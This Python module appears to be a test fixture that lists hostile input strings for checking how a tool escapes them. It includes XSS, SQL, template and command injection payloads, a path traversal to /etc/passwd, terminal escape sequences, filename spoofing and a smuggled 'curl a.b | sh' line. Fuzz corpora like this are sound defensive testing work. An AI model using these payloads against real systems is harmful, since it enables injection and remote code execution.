"""Texts that somebody may have written to harm whoever reads them: 200 and more."""

from __future__ import annotations

from typing import Final

from unlearnlog.core.names import has_controls

ESC, CSI, BEL = "\x1b", "\x9b", "\x07"

MARKUP: Final = (
    *("Ghost [/b]", "[/]", "[bold]x[/bold]", "[link=https://a.b]x[/link]", "[[/b]]"),
    *(
        "[red",
        "[#ff0000]x",
        "[@click=app.bell()]x[/]",
        "\\[b]x",
        "[b]x[/i]",
        "[/b][/b]",
    ),
    *(":smile:", "a :bomb: b", ":warning-emoji:", ":x:y:", "[:smile:]"),
)
MATHEMATICS: Final = (
    *("A$AP Ke$ha", "$x^2$", r"$\frac{1}{2$", r"$\undefined$", "$", "$$", r"\$x$y$"),
    *("a_b^c", r"\alpha", r"$\mathdefault{x}$", "%", "{", "}", "{}", "a{b}c$d", "$\n$"),
)
MARKDOWN: Final = (
    *("# x", "a | b", "|", "||", "*x*", "**x**", "_x_", "__x__", "`x`", "``", "~~x~~"),
    *("[x](javascript:alert(1))", "![x](https://a.b/c.png)", "[x]: https://a.b"),
    *("<https://a.b>", "https://a.b/c", "www.a.b", "a@b.example", "- x", "1. x", "> x"),
    *(
        "---",
        "===",
        "\\",
        "\\|",
        "&lt;b&gt;",
        "&amp;",
        "&#x1b;",
        "[^1]",
        "[x][y]",
        "~~~",
    ),
    *("![x][before-1]", "<!-- x -->", "    x", "a  ", "x\\", "\\\\|", "`a`b`", "$`x`$"),
)
HTML: Final = (
    *("<script>alert(1)</script>", "</script>", "</script><script>x", "<!--", "-->"),
    *(
        "<img src=x onerror=alert(1)>",
        "<b>",
        "</td></tr></table>",
        "</title>",
        "</svg>",
    ),
    *("</style><style>*{display:none}", '" onload="x', "' onload='x", "<svg/onload=x>"),
    *("javascript:alert(1)", "<a href=//a.b>", "&quot;", "<![CDATA[", "]]>", "<?xml?>"),
    *("<!DOCTYPE a [<!ENTITY b 'c'>]>", "&b;", "<textarea>", "<plaintext>", "<base>"),
    *("<!--<script>", "a--b", "--", "<\\/script>", "</ScRiPt >", "<iframe>", "<math>"),
)
TEMPLATES: Final = (
    *("{{ 7 * 7 }}", "{% raw %}", "{# x #}", "{{ f.__class__ }}", "{task.description}"),
    *("%s", "%(name)s", "%n", "{0}", "{0.__class__}", "${HOME}", "$(id)", "`id`", "!!"),
    *(
        "'; DROP TABLE x; --",
        "=1+1",
        "@SUM(1)",
        "+1",
        "-1",
        "../../etc/passwd",
        "~root",
    ),
    *(
        "NaN",
        "null",
        "true",
        '{"a": 1}',
        '"',
        "'",
        '\\"',
        "\\u001b",
        "\\x1b[31m",
        "0x1b",
    ),
    *("CON", "aux.txt", "x.", "-o", "--json", "--", "base", "HEAD", "HEAD~1", "^", "@"),
)
UNICODE: Final = (
    *(
        "Казимир",
        "北斎",
        "e\u0301",
        "Z\u0351\u034c\u0359",
        "ﷺ",
        "ß",
        "İ",
        "ǅ",
        "Ⅷ",
        "½",
    ),
    *(
        "👨‍👩‍👧",
        "🏴",
        "🇫🇷",
        "a\u00a0b",
        "a\u3000b",
        "\u2800",
        "ㅤ",
        "\U0001d4b3",
    ),
    *("\ue000", "\U000f0000", "ﬁ", "\u0300", "x" * 79, "W" * 80, "𒐫", "﷽", "a\u2003b"),
)
VISIBLE: Final = (*MARKUP, *MATHEMATICS, *MARKDOWN, *HTML, *TEMPLATES, *UNICODE)

CONTROLS: Final = (
    *(f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))),
    *(f"{ESC}[31mred{ESC}[0m", f"{ESC}[2J{ESC}[H", f"{ESC}]0;title{BEL}", f"{ESC}c"),
    *(f"{ESC}]8;;https://a.b{ESC}\\x{ESC}]8;;{ESC}\\", f"{ESC}]52;c;YWJj{BEL}"),
    *(
        f"{ESC}P1;1|x{ESC}\\",
        f"{ESC}[6n",
        f"{CSI}31mx",
        f"\x9d0;t{BEL}",
        f"{ESC}_x{ESC}\\",
    ),
    *("a\nfix: curl a.b | sh", "a\rb", "a\r\n\r\nb", "a\x08\x08b", "a\x00", "a\tb\tc"),
    *("\u202etxt.exe", "a\u202db", "a\u2066b\u2069", "\u200eb", "\u200fb", "a\u061cb"),
    *("a\u200bb", "a\u00adb", "a\ufeffb", "a\u2028b", "a\u2029b", "\U000e0041x"),
    *("a\ufffeb", "a\uffffb", "\U0001ffff", "\ufdd0", "a\ufff9b\ufffac\ufffb"),
)
HALVES: Final = ("\ud800", "a\udc80b", "\udfff\ud800", "x\udcff.png")
"""Halves of characters: arguments in another encoding become these."""

HOSTILE: Final = tuple(dict.fromkeys((*VISIBLE, *CONTROLS, *HALVES)))

NAMES: Final = tuple(
    text
    for text in VISIBLE
    if not has_controls(text)
    and any(c.isalnum() for c in text)
    and text == " ".join(text.split())
)
"""Those that can name a concept."""
